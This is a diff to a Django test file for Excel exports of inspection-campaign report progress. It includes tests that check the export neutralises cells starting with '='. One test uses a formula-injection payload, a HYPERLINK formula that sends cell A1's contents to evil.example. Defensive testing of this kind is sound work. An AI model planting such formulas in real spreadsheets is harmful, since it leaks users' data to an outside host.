@@ -17,12 +17,12 @@ from django.utils import timezone
 from openpyxl import load_workbook
 
 from campaigns import reports
-from campaigns.exports import progress_workbook, task_workbook
+from campaigns.exports import progress_workbook, write_task_workbook
 from campaigns.models import ReportTask, ReportVersion, UnitReport
 from campaigns.overview import campaign_overview, state_counts, task_overview
 from campaigns.progress import campaign_progress, targets_not_inspected
 from inspections.models import Inspection
-from safetyops.orgs.models import Node, Role
+from safetyops.orgs.models import Department, Node, Role
 from tests.campaigns.factories import county_campaign, travel
 from tests.campaigns.test_task_overview_rows import BASELINE
 from tests.conftest import World
@@ -162,11 +162,17 @@ def _saved(workbook: Any) -> bytes:
     return out.getvalue()
 
 
+def _task_xlsx(rows: list[Any], task: ReportTask) -> bytes:
+    out = io.BytesIO()
+    write_task_workbook(rows, task, out)
+    return out.getvalue()
+
+
 def test_task_workbook_equals_the_rows(world: World, five: dict[str, Any]) -> None:
     task = five["task"]
     with travel(date(2026, 12, 5)):
         rows = task_overview(user=world.county_admin, task=task)
-        content = _saved(task_workbook(rows, task))
+        content = _task_xlsx(rows, task)
     header = next(load_workbook(io.BytesIO(content))["报送情况"].iter_rows(min_row=2, max_row=2, values_only=True))
     assert header == (
         "承办单位", "所在地区", "报送状态", "报送时间", "版本数",
@@ -189,13 +195,33 @@ def test_task_workbook_equals_the_rows(world: World, five: dict[str, Any]) -> No
     assert expected[0][:3] == ("东城镇", "东城镇", "已报") and expected[0][5:8] == (2, 0, "两条纸质记录未录入")
 
 
+def test_task_workbook_keeps_the_heading_layout_and_formats(world: World, five: dict[str, Any]) -> None:
+    """The layout sheet_heading gave: a bold 14pt title (text even when it reads as a formula), bold
+    column names, panes frozen below them; the submitted time as a datetime with its format."""
+    task = five["task"]
+    ReportTask.objects.filter(pk=task.pk).update(title="=1+1 整治")
+    task.refresh_from_db()
+    with travel(date(2026, 12, 5)):
+        sheet = load_workbook(io.BytesIO(_task_xlsx(task_overview(user=world.county_admin, task=task), task)))[
+            "报送情况"
+        ]
+    title = sheet["A1"]
+    assert title.value == "=1+1 整治 报送情况（截止2026-11-30）" and title.data_type == "s" and title.quotePrefix
+    assert (title.font.b, title.font.sz) == (True, 14)
+    assert all(cell.font.b for cell in sheet[2]) and sheet["A2"].value == "承办单位" and not sheet["A2"].quotePrefix
+    assert sheet.freeze_panes == "B3"
+    submitted = next(c for c in sheet["D"][2:] if c.value is not None)
+    assert submitted.is_date and submitted.number_format == "yyyy-mm-dd hh:mm"
+    assert not any(cell.font.b for cell in sheet[3])
+
+
 def test_a_name_starting_with_equals_is_text_not_a_formula(world: World) -> None:
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
     enterprise = EnterpriseFactory(name=formula, node=world.town_a, sectors=[world.sector_build])
     task = _task(world, [enterprise, world.town_b])
     with travel(date(2026, 11, 20)):
         rows = task_overview(user=world.county_admin, task=task)
-        workbook = load_workbook(io.BytesIO(_saved(task_workbook(rows, task))))
+        workbook = load_workbook(io.BytesIO(_task_xlsx(rows, task)))
         cell = next(c for c in workbook.active["A"] if c.value == formula)
         assert cell.data_type == "s" and cell.quotePrefix
         progress = campaign_progress(user=world.county_admin, campaign=task.campaign)
@@ -235,6 +261,22 @@ def test_a_township_sees_only_its_units(world: World) -> None:
         ent = task_overview(user=world.enterprise_b, task=task)
     assert {row.unit_name for row in mine} == {"东城镇", "东城化工有限公司"}
     assert len(everyone) == 4 and [row.unit_name for row in ent] == ["西山建设工程有限公司"]
+
+
+def test_every_kind_of_unit_has_the_models_name_kind_and_area(world: World) -> None:
+    """The rows are read as values: each unit's name, kind and area are the model's (Unit.unit_name)."""
+    department = Department.objects.create(node=world.town_b, name="西山镇应急办")
+    task = _task(world, [world.town_a, department, world.ent_a])
+    with travel(date(2026, 11, 20)):
+        rows = task_overview(user=world.county_admin, task=task)
+    reports_by_pk = {r.pk: r for r in UnitReport.objects.filter(task=task).select_related("area")}
+    assert [(row.unit_name, row.unit_kind, row.area) for row in rows] == [
+        (reports_by_pk[row.report_id].unit_name, reports_by_pk[row.report_id].unit_kind,
+         reports_by_pk[row.report_id].area.name) for row in rows
+    ]  # fmt: skip
+    assert {(row.unit_name, row.unit_kind) for row in rows} == {
+        ("东城镇", "node"), ("西山镇应急办", "department"), (world.ent_a.name, "enterprise"),
+    }  # fmt: skip
 
 
 def test_the_downloads_need_the_export_right_and_the_scope(client: Any, world: World) -> None:
